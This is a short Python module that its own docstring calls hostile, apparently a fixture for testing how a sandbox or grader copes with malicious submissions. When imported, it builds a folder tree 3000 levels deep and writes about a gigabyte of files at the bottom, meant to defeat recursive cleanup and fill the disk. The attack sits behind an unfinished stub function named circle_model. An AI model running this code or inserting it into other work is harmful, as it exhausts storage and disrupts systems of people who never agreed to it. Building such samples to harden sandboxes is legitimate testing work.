"""Hostile: at import, builds a 3000-deep tree of folders in its working folder with four 250 MB files in it
(each file under the output limit), so that cleanup recurses past Python's limit and the disk fills."""

import os

fd = os.open(".", os.O_RDONLY)
for depth in range(3000):
    os.mkdir("d", dir_fd=fd)
    deeper = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = deeper
chunk = b"x" * (1024 * 1024)
for n in range(4):
    try:
        out = os.open(f"big{n}", os.O_WRONLY | os.O_CREAT, dir_fd=fd)
        for _ in range(250):
            os.write(out, chunk)
        os.close(out)
    except OSError as error:
        print("write stopped:", error)
        break
os.close(fd)


def circle_model(sigma=None):
    raise RuntimeError("not written yet")
